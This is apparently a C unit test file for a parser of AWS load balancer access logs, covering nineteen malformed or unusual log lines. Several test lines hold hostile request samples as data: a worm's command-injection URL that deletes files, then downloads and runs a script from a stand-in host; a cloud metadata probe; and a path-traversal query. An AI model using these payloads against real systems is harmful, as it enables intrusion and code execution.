/* Lines of application load balancers that broke other parsers: ODDITIES rows 1 to 19, a test each.
 *
 * Threads: one. */
#include "tests/unit/oddity.h"

#define ALB "alb_access"
#define CLIENT                                   \
    {"client.ip", JSON_STRING("81.2.69.142")}, { \
        "client.port", "42173"                   \
    }
#define AGENT \
    { "user_agent.original", JSON_STRING("curl/7.78.0") }
#define STATUS \
    { "http.response.status_code", "200" }
#define TID \
    { "aws.elb.conn_trace_id", JSON_STRING("TID_0123456789abcdef0123456789abcdef") }
#define NODE \
    { "observer.ip", JSON_STRING("192.0.2.9") }

/* Vector's parser wanted the line to end where its list of columns ended; Athena's expression made every row NULL. */
static void oddity_01_new_trailing_field(void **state) {
    (void)state;
    oddity_is_record(ALB_25 ALB_TARGETS ALB_CLASS ALB_TID, ALB, CLIENT, STATUS, AGENT, TID, {"aws.elb.extra", NULL});
    oddity_is_record(ALB_25 ALB_26_TO_34 " \"-\" \"-\" new \"newer still\" 7", ALB, CLIENT, STATUS, AGENT, TID, NODE,
                     {"aws.elb.extra", "[\"new\",\"newer still\",\"7\"]"});
    char line[4096] = ALB_25 ALB_26_TO_34, extra[1024] = "[";
    for (int i = 35; i <= 100; i++) {
        sprintf(line + strlen(line), " x%d", i);
        sprintf(extra + strlen(extra), "%s\"x%d\"", i == 35 ? "" : ",", i);
    }
    oddity_is_record(line, ALB, CLIENT, TID, NODE, {"aws.elb.extra", strcat(extra, "]")});
}

/* Columns added in 2018 and 2020: parsers for 25 columns failed at 27 and 29, and those for 29 at older files. */
static void oddity_02_columns_by_age(void **state) {
    (void)state;
#define UP_TO_25 CLIENT, STATUS, AGENT, {"url.path", JSON_STRING("/a/b")}, {"aws.elb.action_executed", "[\"forward\"]"}
    oddity_is_none(ALB_START ALB_PEERS "0.001 0.048 0.000 200 200 814", ALB, ODDITY_NAMED | ODDITY_FIXED,
                   "too-few-fields");
    oddity_is_record(ALB_START ALB_PEERS "0.001 0.048 0.000 200 200 814 57", ALB, CLIENT, STATUS,
                     {"http.response.bytes", "57"}, {"url", NULL}, {"user_agent", NULL});
    oddity_is_record(ALB_25, ALB, UP_TO_25, {"aws.elb.target_port", NULL});
    oddity_is_record(ALB_25 ALB_TARGETS, ALB, UP_TO_25, {"aws.elb.target_port", "[\"10.0.0.80:8080\"]"},
                     {"aws.elb.target_status_codes", "[200]"}, {"aws.elb.classification", NULL});
    oddity_is_record(ALB_25 ALB_TARGETS ALB_CLASS, ALB, UP_TO_25, {"aws.elb.classification", JSON_STRING("Acceptable")},
                     {"aws.elb.classification_reason", JSON_STRING("SpaceInUri")}, {"aws.elb.conn_trace_id", NULL});
    oddity_is_record(ALB_25 ALB_26_TO_34, ALB, UP_TO_25, TID, NODE, {"aws.elb.extra", NULL});
#undef UP_TO_25
}

/* Three columns of transforms and an address of 2025: where the count of captures and of table columns differ, Athena gives NULLs. */
static void oddity_03_transform_columns(void **state) {
    (void)state;
#define TRANSFORMED                                                                    \
    CLIENT, STATUS, TID, {"aws.elb.transformed_host", JSON_STRING("new.example.com")}, \
        {"aws.elb.transformed_uri", JSON_STRING("/new?x=1")},                          \
        {"aws.elb.request_transform_status", JSON_STRING("TransformSuccess")}
#define ALB_30 ALB_25 ALB_TARGETS ALB_CLASS ALB_TID
    oddity_is_record(ALB_30 " \"new.example.com\" \"/new?x=1\" \"TransformSuccess\"", ALB, TRANSFORMED,
                     {"observer.ip", NULL});
    oddity_is_record(ALB_30 " \"new.example.com\" \"/new?x=1\" \"TransformSuccess\" 192.0.2.9", ALB, TRANSFORMED, NODE,
                     {"aws.elb.extra", NULL});
    oddity_is_record(ALB_30 " new.example.com /new?x=1 TransformSuccess 192.0.2.9", ALB, TRANSFORMED, NODE);
    oddity_is_record(ALB_30 " \"new.example.com\" \"/new?x=1\" \"TransformSuccess\" 2001:218::9 35", ALB, TRANSFORMED,
                     {"observer.ip", JSON_STRING("2001:218::9")}, {"aws.elb.extra", "[\"35\"]"});
#undef TRANSFORMED
#undef ALB_30
}

/* AWS writes a lone dash before a column is announced: whoever counts from the end of the line reads the wrong one. */
static void oddity_04_null_columns_at_the_end(void **state) {
    (void)state;
    oddity_is_record(ALB_25 ALB_TARGETS ALB_CLASS ALB_TID " -", ALB, CLIENT, STATUS, TID, {"aws.elb.extra", NULL});
    oddity_is_record(ALB_25 ALB_26_TO_34 " \"-\" \"-\"", ALB, CLIENT, STATUS, TID, NODE, {"aws.elb.extra", NULL});
    oddity_is_record("2025-12-01T00:00:01.500000Z 81.2.69.142 42173 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.004 \"-\" - - "
                     "Success TID_0123456789abcdef0123456789abcdef -",
                     "alb_connection", CLIENT, TID, {"tls.curve", NULL}, {"aws.elb.extra", NULL});
    oddity_is_record("2025-12-01T00:00:01.500000Z 81.2.69.142 42173 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.004 \"-\" - - "
                     "Success TID_0123456789abcdef0123456789abcdef x25519 app/web/50dc6c495c0c9188 192.0.2.9 -",
                     "alb_connection", CLIENT, TID, NODE, {"tls.curve", JSON_STRING("x25519")},
                     {"aws.elb.extra", NULL});
    oddity_is_record("http 2025-12-01T00:00:01.500000Z 0.019584011 10.0.0.80:8080 web PASS 200 - -", "alb_health_check",
                     {"destination.ip", JSON_STRING("10.0.0.80")}, {"event.outcome", JSON_STRING("success")},
                     {"client", NULL}, {"aws.elb.extra", NULL});
}

/* A raw space in the URL, here of a worm: every expression of three words without spaces fails, AWS's own for Athena among them. */
static void oddity_05_space_in_url(void **state) {
    (void)state;
    oddity_is_record(
        ALB_WITH_REQUEST(
            "\"GET http://192.0.2.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example.com/jaws;sh+/tmp/jaws HTTP/1.1\""),
        ALB, CLIENT, STATUS, AGENT, {"http.request.method", JSON_STRING("GET")}, {"http.version", JSON_STRING("1.1")},
        {"url.original",
         JSON_STRING("http://192.0.2.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example.com/jaws;sh+/tmp/jaws")},
        {"url.scheme", JSON_STRING("http")}, {"url.domain", JSON_STRING("192.0.2.1")}, {"url.port", "80"},
        {"url.path", JSON_STRING("/shell")},
        {"url.query", JSON_STRING("cd+/tmp;rm+-rf+*;wget+ a.example.com/jaws;sh+/tmp/jaws")});
    static const struct {
        const char *protocol, *version;
    } protocols[] = {{"HTTP/2", "\"2\""}, {"HTTP/2.0", "\"2.0\""}, {"-", NULL}};
    for (size_t i = 0; i < sizeof protocols / sizeof protocols[0]; i++) {
        char line[2048];
        snprintf(line, sizeof line, ALB_12 "\"GET http://192.0.2.1:80/a b ?c d %s\" " ALB_AGENT ALB_15_TO_25,
                 protocols[i].protocol);
        oddity_is_record(line, ALB, CLIENT, STATUS, AGENT, {"http.version", protocols[i].version},
                         {"url.original", JSON_STRING("http://192.0.2.1:80/a b ?c d")},
                         {"url.path", JSON_STRING("/a b ")}, {"url.query", JSON_STRING("c d")});
    }
    oddity_is_record(ALB_14 ALB_TLS ALB_GROUP ALB_TRACE ALB_NAME ALB_RULE
                     "\"redirect\" \"https://www.example.com:443/a b?c d\" \"-\"" ALB_26_TO_34,
                     ALB, CLIENT, STATUS, TID,
                     {"aws.elb.redirect_url", JSON_STRING("https://www.example.com:443/a b?c d")},
                     {"aws.elb.action_executed", "[\"redirect\"]"}, {"aws.elb.error", NULL});
}

/* No request arrived: Filebeat's pattern wanted a method and a path. */
static void oddity_06_no_request_arrived(void **state) {
    (void)state;
    oddity_is_record(
        "http 2025-12-01T00:00:01.500000Z app/web/50dc6c495c0c9188 81.2.69.142:42173 - -1 -1 -1 400 - 0 272 "
        "\"- http://www.example.com:80- -\" \"-\" - - - \"-\" \"-\" \"-\" - 2025-12-01T00:00:01.451000Z \"-\" \"-\" "
        "\"-\"",
        ALB, CLIENT, {"http.response.status_code", "400"}, {"http.request.bytes", "0"},
        {"url.domain", JSON_STRING("www.example.com")}, {"url.port", "80"}, {"url.path", NULL}, {"url.query", NULL},
        {"http.request.method", NULL}, {"http.version", NULL}, {"user_agent", NULL},
        {"aws.elb.matched_rule_priority", NULL}, {"aws.elb.chosen_cert", NULL}, {"destination", NULL},
        {"event.start", JSON_STRING("2025-12-01T00:00:01.451000Z")}, {"event.outcome", JSON_STRING("failure")});
}

/* The protocol is empty and a space is left behind the URL: elb-log-parser and Elastic have met both forms. */
static void oddity_07_empty_protocol(void **state) {
    (void)state;
    oddity_is_record(ALB_WITH_REQUEST("\"- http://www.example.com:8080- \""), ALB, CLIENT, STATUS, AGENT,
                     {"url.domain", JSON_STRING("www.example.com")}, {"url.port", "8080"}, {"url.path", NULL},
                     {"http.request.method", NULL}, {"http.version", NULL});
    oddity_is_record(ALB_WITH_REQUEST("\"- http://www.example.com:80-/ \""), ALB, CLIENT, STATUS, AGENT,
                     {"url.domain", JSON_STRING("www.example.com")}, {"url.port", "80"}, {"http.request.method", NULL},
                     {"http.version", NULL});
}

/* A space behind the protocol (NonCompliantVersion): elb-log-parser saw an empty protocol. */
static void oddity_08_space_behind_the_protocol(void **state) {
    (void)state;
    oddity_is_record(ALB_WITH_REQUEST("\"GET http://www.example.com:80/ HTTP/1.0 \""), ALB, CLIENT, STATUS, AGENT,
                     {"http.request.method", JSON_STRING("GET")}, {"http.version", JSON_STRING("1.0")},
                     {"url.original", JSON_STRING("http://www.example.com:80/")}, {"url.path", JSON_STRING("/")});
}

/* Methods that are no word to grok's %{WORD}, on which elb-log-parser failed. */
static void oddity_09_odd_methods(void **state) {
    (void)state;
    static const char *const methods[] = {"SSTP_DUPLEX_POST", "ZSDLKFJ2", "--location", "get", "M-SEARCH", "!"};
    for (size_t i = 0; i < sizeof methods / sizeof methods[0]; i++) {
        char line[2048], method[64];
        snprintf(line, sizeof line, ALB_12 "\"%s https://www.example.com:443/x HTTP/1.1\" " ALB_AGENT ALB_15_TO_25,
                 methods[i]);
        snprintf(method, sizeof method, "\"%s\"", methods[i]);
        oddity_is_record(line, ALB, CLIENT, STATUS, AGENT, {"http.request.method", method},
                         {"url.path", JSON_STRING("/x")}, {"http.version", JSON_STRING("1.1")});
    }
}

/* A host in brackets, from a probe for the instance's metadata: siem-on-opensearch cut it at its first colon. */
static void oddity_10_ipv6_host_in_url(void **state) {
    (void)state;
    oddity_is_record(ALB_WITH_REQUEST("\"GET https://[::ffff:a9fe:a9fe]:443/latest?a=[1:2] HTTP/1.1\""), ALB, CLIENT,
                     STATUS, {"url.domain", JSON_STRING("[::ffff:a9fe:a9fe]")}, {"url.port", "443"},
                     {"url.path", JSON_STRING("/latest")}, {"url.query", JSON_STRING("a=[1:2]")});
    oddity_is_record(ALB_WITH_REQUEST("\"GET https://[2001:218::1]/ HTTP/1.1\""), ALB, CLIENT, STATUS,
                     {"url.domain", JSON_STRING("[2001:218::1]")}, {"url.port", NULL}, {"url.path", JSON_STRING("/")});
}

/* IPv6 without brackets, cut at the first colon by fluent-plugin-elb-log ("2601") and SS4O, not read at all by others. */
static void oddity_11_ipv6_client_without_brackets(void **state) {
    (void)state;
#define LONG_CLIENT                                                                              \
    {"client.ip", JSON_STRING("2001:218:4538:1:bcf4:5264:e01c:f215")}, {"client.port", "50718"}, \
        {"source.ip", JSON_STRING("2001:218:4538:1:bcf4:5264:e01c:f215")}, {"source.port", "50718"}
    oddity_is_record(
        ALB_START
        "2001:218:4538:1:bcf4:5264:e01c:f215:50718 2001:218::2:8080 " ALB_COUNTS ALB_ASKED ALB_AGENT ALB_15_TO_25,
        ALB, LONG_CLIENT, {"destination.ip", JSON_STRING("2001:218::2")}, {"destination.port", "8080"});
    oddity_is_record(ALB_START "2001:218::1:443 - " ALB_COUNTS ALB_ASKED ALB_AGENT ALB_15_TO_25, ALB,
                     {"client.ip", JSON_STRING("2001:218::1")}, {"client.port", "443"});
    oddity_is_record(CLB_START "2001:218:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.1:80 " CLB_COUNTS CLB_ASKED CLB_REST,
                     "clb_access", LONG_CLIENT);
    oddity_is_record(NLB_START "2001:218:4538:1:bcf4:5264:e01c:f215:50718 2001:218::3:443 " NLB_COUNTS NLB_TLS NLB_ALPN,
                     "nlb_access", LONG_CLIENT, {"destination.ip", JSON_STRING("2001:218::3")},
                     {"destination.port", "443"});
    oddity_is_none(ALB_START "2001:218:4538:1:bcf4:5264:e01c:f215 - " ALB_COUNTS ALB_ASKED, ALB,
                   ODDITY_NAMED | ODDITY_FIXED, "bad-peer");
#undef LONG_CLIENT
}

/* Quotes, which AWS escapes, in user agent and URL: decoded before the columns are cut, they shift all that follows. */
static void oddity_12_escaped_quotes(void **state) {
    (void)state;
    oddity_is_record(ALB_WITH_AGENT("\"\\x22Mozilla/5.0 (X11; GPU\\x22 a)\\x22\""), ALB, CLIENT, STATUS, TID, NODE,
                     {"user_agent.original", JSON_STRING("\\\"Mozilla/5.0 (X11; GPU\\\" a)\\\"")},
                     {"tls.version", JSON_STRING("1.2")});
    oddity_is_record(ALB_WITH_REQUEST("\"GET https://www.example.com:443/?bar=\\x22 HTTP/1.1\""), ALB, CLIENT, STATUS,
                     AGENT, TID, {"url.original", JSON_STRING("https://www.example.com:443/?bar=\\\"")},
                     {"url.query", JSON_STRING("bar=\\\"")}, {"http.version", JSON_STRING("1.1")});
}

/* Backslashes, which AWS escapes, too. What comes out of an escape is none. */
static void oddity_13_backslash(void **state) {
    (void)state;
    oddity_is_record(
        ALB_WITH_REQUEST("\"GET https://www.example.com:443/?key2=..\\x5C..\\x5Cwindows\\x5Cwin.ini HTTP/1.1\""), ALB,
        CLIENT, STATUS, AGENT, {"url.query", JSON_STRING("key2=..\\\\..\\\\windows\\\\win.ini")},
        {"url.path", JSON_STRING("/")});
    oddity_is_record(ALB_WITH_AGENT("\"a\\x5Cx22b\\x5C\""), ALB, CLIENT, TID,
                     {"user_agent.original", JSON_STRING("a\\\\x22b\\\\")});
}

/* Text that is not ASCII comes byte by byte (elb-log-parser kept the escapes). */
static void oddity_14_not_ascii(void **state) {
    (void)state;
    oddity_is_record(ALB_WITH_AGENT("\"\\xEC\\x97\\x90\\xEC\\x9D\\xB4 1\""), ALB, CLIENT, TID,
                     {"user_agent.original", JSON_STRING("\xec\x97\x90\xec\x9d\xb4 1")}, {"log.flags", NULL});
    oddity_is_record(ALB_WITH_AGENT("\"\\xEC\\x97 1\""), ALB, CLIENT, TID,
                     {"user_agent.original", JSON_STRING("\xef\xbf\xbd\xef\xbf\xbd 1")}, {"log.flags", "[\"lossy\"]"});
}

/* Escapes of eight digits in lines of some years ago; \x22 in front of what looks like digits is not one of them. */
static void oddity_15_eight_digit_escape(void **state) {
    (void)state;
    static const struct {
        const char *logged, *expected;
    } cases[] = {{"\\x00000022Mozilla\\x0000002f5", "\\\"Mozilla/5"},
                 {"\\x22abcdef01", "\\\"abcdef01"},
                 {"\\x22000000", "\\\"000000"},
                 {"\\x41", "A"},
                 {"\\x00000", "\\u0000000"},
                 {"\\x000000zz", "\\u00000000zz"},
                 {"\\x00000122", "\\u0000000122"},
                 {"\\x000000ec\\x00000097\\x00000090", "\xec\x97\x90"}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char line[2048], expected[128];
        snprintf(expected, sizeof expected, "\"%s\"", cases[i].expected);
        snprintf(line, sizeof line, ALB_12 ALB_ASKED "\"%s\" " ALB_15_TO_25, cases[i].logged);
        oddity_is_record(line, ALB, CLIENT, {"user_agent.original", expected}, {"tls.version", JSON_STRING("1.2")});
        snprintf(line, sizeof line, CLB_START CLB_PEERS CLB_COUNTS CLB_ASKED " \"%s\" - -", cases[i].logged);
        oddity_is_record(line, "clb_access", {"user_agent.original", expected}, {"client.port", "2817"});
    }
}

/* The lists of targets were documented bare and come in quotes (Vector took only the bare ones). */
static void oddity_16_target_lists_bare_and_quoted(void **state) {
    (void)state;
#define ONE_TARGET CLIENT, {"aws.elb.target_port", "[\"10.0.0.80:8080\"]"}, {"aws.elb.target_status_codes", "[200]"}
    oddity_is_record(ALB_25 " 10.0.0.80:8080 200" ALB_CLASS ALB_TID, ALB, ONE_TARGET, TID);
    oddity_is_record(ALB_25 " \"10.0.0.80:8080\" \"200\"" ALB_CLASS ALB_TID, ALB, ONE_TARGET, TID);
    oddity_is_record(ALB_25 " \"10.0.0.80:8080 10.0.0.81:8080\" \"502 200\"" ALB_CLASS ALB_TID, ALB, CLIENT, TID,
                     {"aws.elb.target_port", "[\"10.0.0.80:8080\",\"10.0.0.81:8080\"]"},
                     {"aws.elb.target_status_codes", "[502,200]"});
    oddity_is_record(ALB_25 " - -" ALB_CLASS ALB_TID, ALB, CLIENT, TID, {"aws.elb.target_port", NULL},
                     {"aws.elb.target_status_codes", NULL});
#undef ONE_TARGET
}

/* A forwarder puts the trace id into quotes. */
static void oddity_17_quoted_trace_id(void **state) {
    (void)state;
    oddity_is_record(ALB_25 ALB_TARGETS ALB_CLASS " \"TID_0123456789abcdef0123456789abcdef\"", ALB, CLIENT, TID);
    oddity_is_record(ALB_25 ALB_TARGETS ALB_CLASS " \"-\"", ALB, CLIENT, {"aws.elb.conn_trace_id", NULL});
}

/* No actions but a pair of quotes: one more way to say null. */
static void oddity_18_empty_actions(void **state) {
    (void)state;
    oddity_is_record(ALB_14 ALB_TLS ALB_GROUP ALB_TRACE ALB_NAME ALB_RULE "\"\" \"-\" \"LambdaUnhandled\"" ALB_26_TO_34,
                     ALB, CLIENT, TID, NODE, {"aws.elb.action_executed", NULL}, {"aws.elb.blocked_by", NULL},
                     {"aws.elb.redirect_url", NULL}, {"aws.elb.error.reason", JSON_STRING("LambdaUnhandled")});
}

/* Server names of the TLS handshake that are none: elb-log-parser validated them. */
static void oddity_19_odd_server_names(void **state) {
    (void)state;
    static const struct {
        const char *logged, *expected;
    } cases[] = {{"*", "\"*\""},
                 {"192.0.2.12:443", "\"192.0.2.12:443\""},
                 {" some-subdomain.example.com", "\"some-subdomain.example.com\""},
                 {"some.example.com ", "\"some.example.com\""},
                 {" ", NULL},
                 {"", NULL}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char line[2048];
        snprintf(line, sizeof line, ALB_14 ALB_TLS ALB_GROUP ALB_TRACE "\"%s\" " ALB_RULE ALB_ACTIONS ALB_26_TO_34,
                 cases[i].logged);
        oddity_is_record(line, ALB, CLIENT, TID, NODE, {"tls.client.server_name", cases[i].expected},
                         {"aws.elb.matched_rule_priority", "0"});
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(oddity_01_new_trailing_field),
        cmocka_unit_test(oddity_02_columns_by_age),
        cmocka_unit_test(oddity_03_transform_columns),
        cmocka_unit_test(oddity_04_null_columns_at_the_end),
        cmocka_unit_test(oddity_05_space_in_url),
        cmocka_unit_test(oddity_06_no_request_arrived),
        cmocka_unit_test(oddity_07_empty_protocol),
        cmocka_unit_test(oddity_08_space_behind_the_protocol),
        cmocka_unit_test(oddity_09_odd_methods),
        cmocka_unit_test(oddity_10_ipv6_host_in_url),
        cmocka_unit_test(oddity_11_ipv6_client_without_brackets),
        cmocka_unit_test(oddity_12_escaped_quotes),
        cmocka_unit_test(oddity_13_backslash),
        cmocka_unit_test(oddity_14_not_ascii),
        cmocka_unit_test(oddity_15_eight_digit_escape),
        cmocka_unit_test(oddity_16_target_lists_bare_and_quoted),
        cmocka_unit_test(oddity_17_quoted_trace_id),
        cmocka_unit_test(oddity_18_empty_actions),
        cmocka_unit_test(oddity_19_odd_server_names),
    };
    return cmocka_run_group_tests(tests, oddity_set_up, oddity_tear_down);
}
